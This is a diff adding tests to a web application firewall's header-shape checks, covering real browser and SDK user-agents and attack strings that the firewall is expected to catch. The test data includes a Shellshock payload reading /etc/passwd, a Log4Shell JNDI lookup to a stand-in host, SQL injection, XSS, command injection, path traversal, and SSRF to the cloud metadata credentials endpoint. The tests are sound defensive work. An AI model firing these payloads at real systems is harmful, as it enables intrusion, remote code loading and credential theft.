@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import pytest
-from fw_helpers import views_scanned
+from fw_helpers import _module, _rule, views_scanned
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from hullguard.firewall import Firewall
-from hullguard.firewall.header_shapes import MAX_VALUE, fits
+from hullguard.firewall import Firewall, header_shapes
+from hullguard.firewall.detectors.base import Detection, ScanContext
+from hullguard.firewall.header_shapes import MAX_VALUE, all_fit, fits, fitting, shape
 
 # Values real browsers, SDKs and CloudFront send.
 REAL_VALUES = [
@@ -29,6 +32,35 @@ REAL_VALUES = [
     ("x-forwarded-port", "443"),
 ]
 
+# Values whose shape rules some families out, not all (``Shape.rules_out``).
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+)
+PARTLY_SHAPED = [
+    ("user-agent", CHROME),
+    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
+    ("user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+                   "Version/17.1.2 Mobile/15E148 Safari/604.1"),
+    ("user-agent", "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)"),
+    ("user-agent", "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#5.10.0 md/arch#x86_64 lang/python#3.11.7"),
+    ("user-agent", "python-requests/2.31.0"),
+    ("user-agent", "Amazon CloudFront"),
+    ("host", "abc123def4.execute-api.eu-west-1.amazonaws.com"),
+    ("host", "localhost:3000"),
+    ("origin", "https://shop.example.com"),
+    ("origin", "null"),
+    ("referer", "https://shop.example.com/checkout?step=2"),
+    ("referer", "https://www.example.org/docs/v2/index.html#install"),
+]
+
+
+@pytest.mark.parametrize(("name", "value"), PARTLY_SHAPED)
+def test_real_values_fit_a_shape_that_rules_some_families_out(name: str, value: str) -> None:
+    shape = fitting(f"headers.{name}", value)
+    assert shape is not None and shape.rules_out is not None
+    assert not fits(f"headers.{name}", value)  # ``fits``: every family ruled out
+    assert "ssrf" not in shape.rules_out and "deser" not in shape.rules_out
+
 
 @pytest.mark.parametrize(("name", "value"), REAL_VALUES)
 def test_real_values_fit_their_header(name: str, value: str) -> None:
@@ -46,19 +78,29 @@ ATTACKS = [
     ("via", "1.1 <script>alert(1)</script>", "xss"),
     ("x-amzn-trace-id", "Root=1-65a1b2c3;Self=`id`", "cmdi"),
     ("x-forwarded-proto", "https\r\nSet-Cookie: session=attacker", "crlf"),
+    ("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "cmdi"),
+    ("user-agent", "${jndi:ldap://evil.example/a}", "code"),
+    ("user-agent", "Mozilla/5.0' OR '1'='1", "sqli"),
+    ("user-agent", "Mozilla/5.0 (X11; Linux) <script>alert(1)</script>", "xss"),
+    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) ; cat /etc/passwd", "cmdi"),
+    ("user-agent", "Mozilla/5.0 `id`", "cmdi"),
+    ("host", "x' or '1'='1", "sqli"),
+    ("referer", "https://shop.example.com/?q=<script>alert(1)</script>", "xss"),
+    ("referer", "https://shop.example.com/?a=1&b=$(id)", "cmdi"),
+    ("referer", "https://shop.example.com/%2e%2e/%2e%2e/etc/passwd", "path"),
 ]
 
 
 @pytest.mark.parametrize(("name", "value", "attack"), ATTACKS)
 def test_attacks_in_standard_headers_do_not_fit_and_are_found(name: str, value: str, attack: str) -> None:
-    assert not fits(f"headers.{name}", value)
+    assert fitting(f"headers.{name}", value) is None
     event = {"resource": "/", "path": "/", "httpMethod": "GET", "headers": {name: value},
              "requestContext": {"requestId": "r"}}
     assert attack in {f.attack for f in Firewall().inspect(event).findings}
 
 
 def test_only_known_headers_whole_values_and_short_ones_fit() -> None:
-    assert not fits("headers.user-agent", "Mozilla/5.0")  # no grammar: always inspected
+    assert not fits("headers.x-forwarded-note", "note")  # no grammar: always inspected
     assert not fits("queryStringParameters.accept", "text/html")  # a parameter, not the header
     assert not fits("headers.accept", "text/html x")  # a whole value or nothing
     assert not fits("headers.accept", "a/" + "b" * MAX_VALUE)
@@ -74,3 +116,95 @@ def test_a_fitting_header_is_no_view_but_its_base64_decoding_is() -> None:
     assert ("headers.x-amz-cf-id", "eCcgdW5pb24gc2VsZWN0IDEtLQ==") not in views
     assert ("headers.x-amz-cf-id", "x' union select 1--") in views
     assert "sqli" in {f.attack for f in Firewall().inspect(event).findings}
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        # SSRF is not ruled out by a host's shape: these fit and are still found.
+        ("host", "169.254.169.254"),
+        ("referer", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+        ("origin", "http://localhost:2773"),
+    ],
+)
+def test_a_family_the_shape_does_not_rule_out_still_looks_at_a_fitting_value(name: str, value: str) -> None:
+    assert fitting(f"headers.{name}", value) is not None
+    event = {"resource": "/", "path": "/", "httpMethod": "GET", "headers": {name: value},
+             "requestContext": {"requestId": "r"}}
+    assert "ssrf" in {f.attack for f in Firewall().inspect(event).findings}
+
+
+def test_a_user_agent_in_shape_is_no_view_and_its_words_reach_no_detector() -> None:
+    # ";" and "(" inside a comment that follows "Name/1.0": a shell stops at "word (" before running
+    # anything, and "1.0 (x)" calls a number, so no command or code injection can be spelled this way.
+    value = "Mozilla/5.0 (X11; reboot)"
+    assert fitting("headers.user-agent", value) is not None
+    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
+             "headers": {"User-Agent": value, "Referer": "https://shop.example.com/"}}
+    views = views_scanned(Firewall(), event)
+    assert ("headers.user-agent", value) not in views
+    assert ("headers.referer", "https://shop.example.com/") in views  # SSRF's prefilter matches it
+    assert not Firewall().inspect(event).findings
+
+
+def test_a_user_agent_without_a_version_before_its_comment_does_not_fit() -> None:
+    assert fitting("headers.user-agent", "eval (x)") is None
+    assert fitting("headers.user-agent", "x/y (a; b)") is None  # a comment only after a numeric version
+    assert fitting("headers.user-agent", "x/1 (a=1)") is None
+    assert fitting("headers.user-agent", "x/1.0 (javascript:alert)") is None  # ":" only before a digit
+    assert fitting("headers.user-agent", "x/1 (a/etc/passwd)") is None  # "/" only in Name/1.0
+
+
+def test_only_the_families_a_shape_does_not_rule_out_are_asked_about_a_fitting_view() -> None:
+    asked: list[tuple[str, str]] = []
+
+    def recorder(family: str) -> object:
+        def scan(text: str, ctx: ScanContext) -> Detection | None:
+            asked.append((family, ctx.location))
+            return None
+
+        return scan
+
+    # Both prefilters match the Referer; its shape rules XSS out, not SSRF.
+    detectors = [_module(family, "https", _rule(family), recorder(family)) for family in ("xss", "ssrf")]
+    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
+             "headers": {"Referer": "https://shop.example.com/checkout?step=2", "X-Note": "https"}}
+    Firewall(detectors=detectors).inspect(event)
+    assert sorted(asked) == [("ssrf", "headers.referer"), ("ssrf", "headers.x-note"), ("xss", "headers.x-note")]
+
+
+_SHAPED_NAMES = sorted({name for name, _ in REAL_VALUES + PARTLY_SHAPED})
+
+
+@pytest.mark.parametrize(
+    ("name", "value"), REAL_VALUES + PARTLY_SHAPED + [(name, value) for name, value, _ in ATTACKS]
+)
+def test_one_re2_match_over_many_values_agrees_with_each_grammar(name: str, value: str) -> None:
+    header = shape(name)
+    assert header is not None
+    fits_alone = header.pattern.fullmatch(value) is not None
+    assert all_fit([(header, value)]) == fits_alone
+    others = [(shape(other), text) for other, text in REAL_VALUES]
+    assert all_fit([*others, (header, value)]) == fits_alone  # type: ignore[list-item]
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.sampled_from(_SHAPED_NAMES),
+    st.text(alphabet="aZk09 ;,=/.()-_+:*#q\t\v$'<", max_size=40),
+)
+def test_the_re2_match_never_fits_a_value_its_grammar_does_not(name: str, value: str) -> None:
+    header = shape(name)
+    assert header is not None
+    if all_fit([(header, value)]):
+        assert header.pattern.fullmatch(value) is not None
+
+
+def test_without_re2_each_value_is_matched_alone_with_the_same_views(monkeypatch: pytest.MonkeyPatch) -> None:
+    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
+             "headers": {"Accept": "application/json", "User-Agent": CHROME, "Via": "1.1 <script>x</script>",
+                         "Referer": "https://shop.example.com/"}}
+    with_re2 = views_scanned(Firewall(), event)
+    monkeypatch.setattr(header_shapes, "_BATCH", [None])
+    assert views_scanned(Firewall(), event) == with_re2
+    assert {where for where, _ in with_re2} == {"path", "headers.via", "headers.referer"}
